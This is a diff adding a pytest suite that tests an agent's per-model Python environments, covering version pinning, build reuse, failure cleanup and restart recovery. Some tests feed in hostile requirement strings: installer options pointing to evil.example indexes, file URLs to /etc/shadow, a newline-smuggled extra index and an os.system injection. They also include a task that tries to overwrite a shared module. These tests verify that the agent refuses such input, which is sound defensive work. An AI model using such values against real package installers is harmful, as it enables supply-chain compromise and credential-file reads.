@@ -1,0 +1,273 @@
+"""Per-model Python environments against a real agent (tasks as their own uids, in their
+namespaces): two models pinned to different versions of one package run side by side and
+each sees its own; the same spec again reuses the environment without a build; a package
+that does not exist fails the deploy naming it, and nothing half-built is reused; an agent
+restarted during a build finishes it; and a request cannot smuggle installer options, URLs
+or paths in as requirements.
+
+The builds download from the machine's package index (pip's configuration, as the agent
+reads it): six 1.15.0 and 1.16.0 are small pure-Python wheels."""
+
+from __future__ import annotations
+
+import json
+import os
+import sqlite3
+import stat
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests.support.agent import AgentProcess
+from tests.support.waiting import wait_until
+
+SCRIPT = '''\
+import json, sys, time
+import six
+verb, path = sys.argv[1], sys.argv[2]
+if verb == "train":
+    delay = float(sys.argv[3]) if len(sys.argv) > 3 else 0
+    time.sleep(delay)
+    with open(path, "w") as f:
+        f.write(six.__version__)
+    print(json.dumps({"six": six.__version__, "python": sys.executable}))
+elif verb == "predict":
+    print(json.dumps({"prediction": six.__version__, "python": sys.executable}))
+elif verb == "serve":
+    print(json.dumps({"ready": True, "n_features": 1}), flush=True)
+    for line in sys.stdin:
+        request = json.loads(line)
+        answer = [six.__version__] * len(request["instances"])
+        print(json.dumps({"id": request["id"], "predictions": answer}), flush=True)
+'''
+
+
+def deploy_body(name: str, environment: dict[str, Any] | None, **extra: Any) -> dict[str, Any]:
+    body: dict[str, Any] = {
+        "name": name, "model_path": f"models/{name}/model.txt", "script_path": "sixmodel.py",
+        "command": "python3", "args": ["sixmodel.py", "train", f"models/{name}/model.txt"],
+        "working_dir": ".", "resources": {"memory_limit": "512MB"}, "timeout": "5m", **extra,
+    }
+    if environment is not None:
+        body["environment"] = environment
+    return body
+
+
+@pytest.fixture
+def env_agent(agent_factory, tmp_path: Path) -> AgentProcess:  # type: ignore[no-untyped-def]
+    agent: AgentProcess = agent_factory()
+    (agent.workdir / "sixmodel.py").write_text(SCRIPT)
+    (agent.workdir / "sixmodel.py").chmod(0o644)
+    return agent.start()
+
+
+def env_tasks(agent: AgentProcess) -> list[dict[str, Any]]:
+    reply = agent.api.get("/api/tasks?kind=env")
+    assert reply.status == 200, reply.text
+    return list(reply.body)
+
+
+def test_two_models_pinned_to_different_versions_each_see_their_own(env_agent: AgentProcess) -> None:
+    agent = env_agent
+    a = agent.api.post("/api/ml/models", deploy_body("six-a", {"requirements": ["six==1.15.0"], "inherit": False}))
+    b = agent.api.post("/api/ml/models", deploy_body("six-b", {"requirements": ["six==1.16.0"]}))
+    assert a.status == 201 and b.status == 201, (a.text, b.text)
+    assert a.body["status"] == "preparing" and a.body["environment"], a.body
+    done_a, done_b = agent.wait_done(a.body["id"], 300), agent.wait_done(b.body["id"], 300)
+    assert done_a["status"] == "completed", (done_a, agent.log_text()[-3000:])
+    assert done_b["status"] == "completed", done_b
+    assert done_a["result"]["six"] == "1.15.0" and done_b["result"]["six"] == "1.16.0"
+    assert done_a["result"]["python"].startswith(str(agent.state_dir / "envs" / a.body["environment"]))
+
+    # predictions run in the model's environment too
+    for model, version in ((a.body, "1.15.0"), (b.body, "1.16.0")):
+        reply = agent.api.post(f"/api/ml/models/{model['id']}/predict?wait=true", {"input_data": 1})
+        assert reply.status == 200 and reply.body["prediction"] == version, reply.text
+
+    # and a serving worker: it starts in the model's environment
+    served = agent.api.post(f"/api/ml/models/{a.body['id']}/serve?wait=true", {"replicas": 1, "loader": "script"})
+    assert served.status == 200, served.text
+    warm = agent.api.post(f"/api/ml/models/{a.body['id']}/predict?wait=true", {"input_data": 1})
+    assert warm.status == 200 and warm.body["prediction"] == "1.15.0" and warm.body["prediction_task_id"] is None, warm.text
+
+    listed = {e["key"]: e for e in agent.api.get("/api/environments").body}
+    env_a = listed[a.body["environment"]]
+    assert env_a["status"] == "ready" and env_a["requirements"] == ["six==1.15.0"] and env_a["inherit"] is False
+    assert env_a["size_bytes"] > 0 and env_a["installer"] in ("uv", "pip")
+    assert env_a["tasks"], "the serving worker uses it"
+    # sealed: root's, and no task user may write into it
+    root = agent.state_dir / "envs" / a.body["environment"]
+    for path in [root, *root.rglob("*")]:
+        st = path.lstat()
+        if os.geteuid() == 0:
+            assert st.st_uid == 0, path
+        assert not stat.S_ISLNK(st.st_mode) and st.st_mode & 0o022 == 0 or stat.S_ISLNK(st.st_mode), path
+
+    # The same spec again (spelt differently): no second build, it starts at once.
+    builds = len(env_tasks(agent))
+    again = agent.api.post("/api/ml/models", deploy_body("six-c", {"requirements": ["SIX == 1.16.0"]}))
+    assert again.status == 201 and again.body["status"] == "pending", again.text
+    assert again.body["environment"] == b.body["environment"]
+    assert agent.wait_done(again.body["id"], 120)["result"]["six"] == "1.16.0"
+    assert len(env_tasks(agent)) == builds
+    events = [e["type"] for e in agent.api.get(f"/api/tasks/{again.body['id']}/events").body]
+    assert "preparing" not in events, events
+
+
+def test_concurrent_deploys_of_one_spec_share_one_build(env_agent: AgentProcess) -> None:
+    agent = env_agent
+    spec = {"requirements": ["six==1.16.0"], "inherit": False}
+    first = agent.api.post("/api/ml/models", deploy_body("share-1", spec))
+    second = agent.api.post("/api/ml/models", deploy_body("share-2", spec))
+    assert first.body["status"] == second.body["status"] == "preparing"
+    assert len(env_tasks(agent)) == 1
+    for model in (first.body, second.body):
+        assert agent.wait_done(model["id"], 300)["status"] == "completed"
+
+
+def test_a_missing_package_fails_the_deploy_naming_it_and_nothing_is_reused(env_agent: AgentProcess) -> None:
+    agent = env_agent
+    spec = {"requirements": ["cnet-no-such-package-4711==1.0"], "inherit": False}
+    model = agent.api.post("/api/ml/models", deploy_body("missing", spec))
+    assert model.status == 201, model.text
+    done = agent.wait_done(model.body["id"], 300)
+    assert done["status"] == "failed", done
+    assert "cnet-no-such-package-4711" in done["reason"] and "index" in done["reason"], done["reason"]
+    key = model.body["environment"]
+    assert not (agent.state_dir / "envs" / key).exists(), "the half-built environment is removed"
+    described = agent.api.get(f"/api/environments/{key}").body
+    assert described["status"] == "failed" and "cnet-no-such-package-4711" in described["reason"]
+
+    # the same spec again builds again (it is not taken as built), and fails the same way
+    again = agent.api.post("/api/ml/models", deploy_body("missing-2", spec))
+    assert again.body["status"] == "preparing"
+    assert agent.wait_done(again.body["id"], 300)["status"] == "failed"
+    assert len(env_tasks(agent)) == 2
+
+
+def test_an_agent_restarted_during_a_build_finishes_it(agent_factory) -> None:  # type: ignore[no-untyped-def]
+    agent: AgentProcess = agent_factory()
+    (agent.workdir / "sixmodel.py").write_text(SCRIPT)
+    agent.start()
+    model = agent.api.post("/api/ml/models", deploy_body("restart", {"requirements": ["six==1.15.0"], "inherit": False}))
+    assert model.status == 201, model.text
+    build = env_tasks(agent)[0]
+    agent.wait_status(build["id"], {"running"}, 60)
+    agent.kill()  # SIGKILL while the build runs: it runs on without the agent
+    agent.start()
+    done = agent.wait_done(model.body["id"], 300)
+    assert done["status"] == "completed" and done["result"]["six"] == "1.15.0", (done, agent.log_text()[-3000:])
+    # either the build that ran on was followed to its end, or it was started again cleanly
+    builds = env_tasks(agent)
+    assert builds[0]["status"] == "completed"
+    assert agent.api.get(f"/api/environments/{model.body['environment']}").body["status"] == "ready"
+
+
+def test_an_agent_killed_before_a_build_could_start_builds_it_at_the_next_start(agent_factory) -> None:  # type: ignore[no-untyped-def]
+    """The build's task lost (failed as lost by recovery): started again, the deploy waits on."""
+    agent: AgentProcess = agent_factory()
+    (agent.workdir / "sixmodel.py").write_text(SCRIPT)
+    agent.start()
+    model = agent.api.post("/api/ml/models", deploy_body("lost", {"requirements": ["six==1.16.0"], "inherit": False}))
+    build = env_tasks(agent)[0]
+    agent.wait_status(build["id"], {"running"}, 60)
+    agent.kill()
+    agent.kill_task_processes()  # the build's processes vanish while the agent is down
+    agent.start()
+    done = agent.wait_done(model.body["id"], 300)
+    assert done["status"] == "completed" and done["result"]["six"] == "1.16.0", done
+    builds = env_tasks(agent)
+    assert len(builds) == 2 and builds[1]["reason"].startswith("lost"), builds
+
+
+# ---- an attacker's requests ------------------------------------------------------------------
+
+HOSTILE = [
+    "--index-url=http://evil.example/simple",
+    "--index-url http://evil.example/simple six",
+    "-e /etc",
+    "-r /etc/shadow",
+    "six @ file:///etc/shadow",
+    "six @ https://evil.example/six.whl",
+    "file:///etc/shadow",
+    "./local-package",
+    "/etc/passwd",
+    "git+https://evil.example/repo.git",
+    "six==1.16.0 --hash=sha256:00",
+    "six\n--extra-index-url http://evil.example",
+    "six; os.system('id')",
+    "six[extra] @ http://x",
+]
+
+
+@pytest.mark.parametrize("requirement", HOSTILE)
+def test_a_requirement_that_is_an_option_url_or_path_is_refused(env_agent: AgentProcess, requirement: str) -> None:
+    body = deploy_body("hostile", {"requirements": ["six==1.16.0", requirement]})
+    reply = env_agent.api.post("/api/ml/models", body)
+    assert reply.status == 400, reply.text
+    assert "environment.requirements[1]" in reply.body["error"], reply.body
+    assert env_tasks(env_agent) == [], "no build started"
+    task = env_agent.api.post("/api/tasks", {"name": "t", "command": "python3", "args": ["-c", "1"],
+                                             "environment": {"requirements": [requirement]}})
+    assert task.status == 400 and "environment.requirements[0]" in task.body["error"], task.text
+
+
+def test_a_requirements_file_is_confined_and_its_options_refused(env_agent: AgentProcess, tmp_path: Path) -> None:
+    agent = env_agent
+    outside = tmp_path / "outside.txt"
+    outside.write_text("six==1.16.0\n")
+    for path in (str(outside), "../outside.txt", "/etc/passwd", "state/cnet.db"):
+        reply = agent.api.post("/api/ml/models", deploy_body("f", {"requirements_file": path}))
+        assert reply.status == 400 and "environment.requirements_file" in reply.body["error"], (path, reply.text)
+    (agent.workdir / "evil.txt").write_text("six==1.16.0\n--extra-index-url http://evil.example/simple\n")
+    reply = agent.api.post("/api/ml/models", deploy_body("f", {"requirements_file": "evil.txt"}))
+    assert reply.status == 400 and "line 2" in reply.body["error"], reply.text
+    os.mkfifo(agent.workdir / "fifo.txt")
+    reply = agent.api.post("/api/ml/models", deploy_body("f", {"requirements_file": "fifo.txt"}))
+    assert reply.status == 400 and "not a regular file" in reply.body["error"], reply.text
+    if os.geteuid() == 0:  # the agent reads it, but only when the model's user could
+        secret = agent.workdir / "secret.txt"
+        secret.write_text("six\n")
+        secret.chmod(0o600)
+        reply = agent.api.post("/api/ml/models", deploy_body("f", {"requirements_file": "secret.txt"}))
+        assert reply.status == 400 and "environment.requirements_file" in reply.body["error"], reply.text
+    assert env_tasks(agent) == []
+    good = agent.workdir / "requirements.txt"
+    good.write_text("# pinned\nsix==1.16.0  # the one\n\n")
+    reply = agent.api.post("/api/ml/models", deploy_body("f", {"requirements_file": "requirements.txt", "inherit": False}))
+    assert reply.status == 201, reply.text
+    inline = agent.api.post("/api/ml/models", deploy_body("g", {"requirements": ["six==1.16.0"], "inherit": False}))
+    assert inline.body["environment"] == reply.body["environment"], "the file's content is the spec"
+
+
+def test_a_python_that_is_not_installed_is_a_400(env_agent: AgentProcess) -> None:
+    reply = env_agent.api.post("/api/ml/models", deploy_body("p", {"requirements": ["six"], "python": "3.2", "inherit": False}))
+    assert reply.status == 400 and "environment.python" in reply.body["error"], reply.text
+    reply = env_agent.api.post("/api/ml/models", deploy_body("p", {"requirements": ["six"], "python": "3.2"}))
+    assert reply.status == 400 and "inherit" in reply.body["error"], reply.text
+
+
+def test_a_task_cannot_write_into_an_environment(env_agent: AgentProcess) -> None:
+    """A model's task (its own uid) tries to replace a module of a shared environment."""
+    agent = env_agent
+    spec = {"requirements": ["six==1.16.0"], "inherit": False}
+    model = agent.api.post("/api/ml/models", deploy_body("victim", spec))
+    assert agent.wait_done(model.body["id"], 300)["status"] == "completed"
+    key = model.body["environment"]
+    code = ("import six, os, json\n"
+            "try:\n    open(six.__file__, 'a').write('import os; os._exit(9)')\n    print(json.dumps({'wrote': True}))\n"
+            "except OSError as e:\n    print(json.dumps({'wrote': False, 'error': str(e)}))\n")
+    attacker = agent.api.post("/api/tasks", {"name": "attacker", "command": "python3", "args": ["-c", code],
+                                             "environment": spec})
+    assert attacker.status == 201 and attacker.body["environment"] == key, attacker.text
+    done = agent.wait_done(attacker.body["id"], 120)
+    assert done["result"] == {"wrote": False, "error": done["result"]["error"]}, done
+    db = sqlite3.connect(agent.state_dir / "cnet.db")
+    try:
+        (status,) = db.execute("SELECT status FROM environments WHERE key = ?", (key,)).fetchone()
+    finally:
+        db.close()
+    assert status == "ready"
+    assert json.loads((agent.state_dir / "envs" / key / ".cnet-ready").read_text())["key"] == key
+    wait_until(lambda: agent.api.get(f"/api/environments/{key}").body["tasks"] == [], 30, "no task uses it")
